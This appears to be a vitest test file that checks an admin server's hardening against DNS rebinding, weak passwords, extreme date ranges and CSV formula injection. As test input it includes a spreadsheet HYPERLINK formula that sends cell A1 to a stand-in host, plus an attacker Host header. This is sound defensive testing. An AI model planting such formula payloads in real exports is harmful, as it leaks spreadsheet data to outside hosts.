import { request } from 'node:http';
import { hostname } from 'node:os';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { csvCell, toCsv } from '../../src/admin/csv.js';
import { Client, startAdmin, type Harness } from './adminHarness.js';

/** A GET with a chosen Host header (fetch may not set Host). */
function getWithHost(base: string, path: string, host: string): Promise<{ status: number; body: string }> {
  const u = new URL(base);
  return new Promise((resolve, reject) => {
    const req = request({ host: u.hostname, port: u.port, path, headers: { host } }, (res) => {
      let body = '';
      res.setEncoding('utf8');
      res.on('data', (d: string) => (body += d));
      res.on('end', () => resolve({ status: res.statusCode ?? 0, body }));
    });
    req.on('error', reject);
    req.end();
  });
}

/** Splits one CSV line the way a spreadsheet in a semicolon locale does (quotes respected). */
function splitSemicolons(line: string): string[] {
  const cells: string[] = [];
  let cur = '';
  let quoted = false;
  for (let i = 0; i < line.length; i++) {
    const ch = line[i]!;
    if (ch === '"') {
      if (quoted && line[i + 1] === '"') {
        cur += '"';
        i++;
      } else quoted = !quoted;
    } else if (ch === ';' && !quoted) {
      cells.push(cur);
      cur = '';
    } else cur += ch;
  }
  cells.push(cur);
  return cells;
}

describe('admin hardening (issue 11, low findings)', () => {
  let h: Harness;
  let c: Client;

  beforeAll(async () => {
    h = await startAdmin({ unit: { timezone: 'Europe/Berlin' }, admin: { allowedHosts: ['door-7.example.lan', '*.doors.example.com'] } });
    c = new Client(h.url);
    expect(await c.setup(h.setupToken())).toBe(200);
  });
  afterAll(async () => h?.close());

  it('answers only to its own names: a DNS-rebinding Host gets 421 on every route, /health included', async () => {
    for (const path of ['/health', '/api/v1/auth/state', '/']) {
      const evil = await getWithHost(h.url, path, 'attacker.example:8080');
      expect(evil.status, path).toBe(421);
      expect(evil.body).toContain('admin.allowedHosts');
    }
    const sub = await getWithHost(h.url, '/health', 'door-7.example.lan.attacker.example');
    expect(sub.status).toBe(421);
    for (const host of [
      '127.0.0.1:8080',
      'localhost',
      '[::1]:8080',
      '10.1.2.3',
      'door-7.example.lan',
      'DOOR-7.example.lan.',
      'a.doors.example.com',
      `${hostname()}:80`,
      `${hostname()}.local`,
    ]) {
      const ok = await getWithHost(h.url, '/health', host);
      expect(ok.status, host).not.toBe(421);
    }
    expect((await getWithHost(h.url, '/health', 'doors.example.com')).status).toBe(421);
  });

  it('refuses common and easily guessed passwords with a reason that does not repeat them', async () => {
    for (const weak of ['password12', '1234567890', 'qwertyuiop', 'iloveyou123', 'Summer2024!', 'Password123!']) {
      const r = await c.req('POST', '/api/v1/users', { username: 'guard', password: weak, role: 'viewer' });
      expect(r.status, weak).toBe(400);
      expect(String(r.json.message)).toMatch(/too easy to guess/);
      expect(String(r.json.message)).not.toContain(weak);
    }
    const strong = await c.req('POST', '/api/v1/users', { username: 'guard', password: 'violet tractor harbour', role: 'viewer' });
    expect(strong.status).toBe(200);
  });

  it('a date range at the end of the calendar is a 400 naming the key, not a 500', async () => {
    for (const q of ['from=9999-12-31&to=9999-12-31', 'to=9999-12-31', 'from=0000-01-01']) {
      for (const path of ['/api/v1/events', '/api/v1/events.csv', '/api/v1/attendance', '/api/v1/attendance.csv']) {
        const r = await c.req('GET', `${path}?${q}`);
        expect(r.status, `${path}?${q}`).toBe(400);
        expect(String(r.json.message)).toMatch(/^(from|to): /);
      }
    }
    expect((await c.req('GET', '/api/v1/events?from=2026-03-29&to=2026-03-29')).status).toBe(200);
  });
});

describe('CSV export for spreadsheets in comma and semicolon locales', () => {
  it('a cell that holds a semicolon is quoted, so no part of it becomes a formula cell in a semicolon locale', () => {
    const name = 'Ann;=HYPERLINK("http://x.example/?"&A1;"click")';
    const line = toCsv(['name', 'note'], [[name, 'x;@SUM(1)']]).split('\r\n')[1]!;
    const cells = splitSemicolons(line);
    expect(cells, 'the whole line is one cell where a semicolon reader splits').toHaveLength(1);
    for (const cell of cells) expect(cell).not.toMatch(/^[=+\-@]/);
    expect(csvCell('a;b')).toBe('"a;b"');
  });

  it('formula characters after leading spaces or full-width forms are neutralised too', () => {
    expect(csvCell(' =1+1')).toBe("' =1+1");
    expect(csvCell('\u00a0@SUM(A1)')).toBe("'\u00a0@SUM(A1)");
    expect(csvCell('\uff1d1+1')).toBe("'\uff1d1+1");
    expect(csvCell('-12.5')).toBe('-12.5');
    expect(csvCell('plain')).toBe('plain');
  });
});
